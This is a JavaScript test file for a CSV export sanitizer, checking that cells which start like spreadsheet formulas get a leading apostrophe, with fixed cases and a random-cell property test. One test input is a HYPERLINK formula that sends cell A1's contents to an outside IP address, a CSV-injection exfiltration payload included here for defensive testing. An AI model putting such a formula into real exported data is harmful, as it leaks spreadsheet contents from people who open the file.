// The page's spreadsheet module (`www/spreadsheet.js`) in Node: its unit cases and a property over
// random cells. No browser.

import assert from "node:assert/strict";

import { spreadsheetSafe, startsLikeFormula, cells, test } from "./harness.mjs";

test("spreadsheet.js: formula cells get a ', nothing else changes (Node unit cases)", async () => {
  const cases = [
    ["a,b\r\n", "a,b\r\n", 0],
    ["=1+1,b\r\n", "'=1+1,b\r\n", 1],
    ['x,"=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n', `x,"'=HYPERLINK(""http://203.0.113.7/?leak=""&A1)"\r\n`, 1],
    ['-5,+3,1e-3,-2+3,@SUM(1),\tx,"\rx"\n', `-5,+3,1e-3,'-2+3,'@SUM(1),'\tx,"'\rx"\n`, 4],
    ["", "", 0],
    ["=a", "'=a", 1],
    // Plain numbers, signed and decimal, are left alone; an expression or a second sign is not.
    ["-12.5,+0.5,-1.5E+3,-12.5.1,--1,+-1\n", "-12.5,+0.5,-1.5E+3,'-12.5.1,'--1,'+-1\n", 3],
    ['a,\r\n,"=b",', `a,\r\n,"'=b",`, 1],
    ['"a,=b","c\r\n=d"\r\n', '"a,=b","c\r\n=d"\r\n', 0],
  ];
  for (const [input, expected, neutralized] of cases) {
    assert.deepEqual(spreadsheetSafe(input), { text: expected, neutralized }, JSON.stringify(input));
  }
  // Property: for random cells written as RFC 4180, the safe file parses to the same cells,
  // each prefixed with ' exactly when it starts like a formula.
  let seed = 42;
  const random = (n) => {
    seed = (seed * 1103515245 + 12345) % 2147483648;
    return seed % n;
  };
  const alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "a", "1", ".", " ", "é"];
  const quote = (cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  for (let round = 0; round < 500; round += 1) {
    const rows = Array.from({ length: 1 + random(4) }, () =>
      Array.from({ length: 1 + random(4) }, () => Array.from({ length: 1 + random(6) }, () => alphabet[random(alphabet.length)]).join("")),
    );
    const input = `${rows.map((row) => row.map(quote).join(",")).join("\r\n")}\r\n`;
    const safe = spreadsheetSafe(input);
    const expected = rows.map((row) => row.map((cell) => (startsLikeFormula(cell) ? `'${cell}` : cell)));
    assert.deepEqual(cells(safe.text), expected, JSON.stringify(input));
    assert.equal(safe.neutralized, rows.flat().filter(startsLikeFormula).length);
  }
});
